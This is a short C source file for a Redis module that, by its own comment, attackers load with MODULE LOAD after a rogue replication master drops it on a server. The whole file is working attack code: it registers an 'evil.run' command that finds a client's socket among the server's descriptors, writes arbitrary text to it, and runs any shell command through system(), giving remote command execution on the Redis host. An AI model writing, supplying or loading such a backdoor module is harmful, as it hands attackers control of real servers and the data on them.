// SPDX-License-Identifier: GPL-2.0
/*
 * A Redis module as attackers load it (through MODULE LOAD of a file that a
 * rogue replication master left): the command
 *
 *   evil.run <port> <text> <command>
 *
 * finds the socket of the client with that remote port among the descriptors
 * of the server, writes text to it at once, behind the server's back, and runs
 * the command in a shell. Stock Redis 7 executes no program by itself.
 *
 * The first word of the context that OnLoad gets is the function that looks
 * up the others; that is the whole module ABI used here.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define MODULE_ABI	1
#define FD_MAX		256

typedef int (*get_api_fn)(const char *name, void *pointer);
typedef int (*command_fn)(void *ctx, void **argv, int argc);

static int (*create_command)(void *ctx, const char *name, command_fn fn,
			     const char *flags, int first, int last, int step);
static int (*set_attribs)(void *ctx, const char *name, int version, int abi);
static const char *(*string_ptr)(const void *string, size_t *len);
static int (*reply_long)(void *ctx, long long value);

static int find_socket(unsigned short port)
{
	struct sockaddr_in peer;
	socklen_t len;
	int fd;

	for (fd = 3; fd < FD_MAX; fd++) {
		len = sizeof(peer);
		if (!getpeername(fd, (struct sockaddr *)&peer, &len) &&
		    peer.sin_family == AF_INET && ntohs(peer.sin_port) == port)
			return fd;
	}
	return -1;
}

static int run(void *ctx, void **argv, int argc)
{
	const char *text;
	size_t len;
	int fd;

	if (argc != 4)
		return reply_long(ctx, -1);
	fd = find_socket(atoi(string_ptr(argv[1], &len)));
	text = string_ptr(argv[2], &len);
	if (fd < 0 || write(fd, text, len) != (ssize_t)len)
		return reply_long(ctx, -2);
	return reply_long(ctx, system(string_ptr(argv[3], &len)));
}

int RedisModule_OnLoad(void *ctx, void **argv, int argc)
{
	get_api_fn get_api = *(get_api_fn *)ctx;

	(void)argv;
	(void)argc;
	if (get_api("RedisModule_CreateCommand", &create_command) ||
	    get_api("RedisModule_SetModuleAttribs", &set_attribs) ||
	    get_api("RedisModule_StringPtrLen", &string_ptr) ||
	    get_api("RedisModule_ReplyWithLongLong", &reply_long))
		return 1;
	set_attribs(ctx, "evil", 1, MODULE_ABI);
	return create_command(ctx, "evil.run", run, "", 0, 0, 0);
}
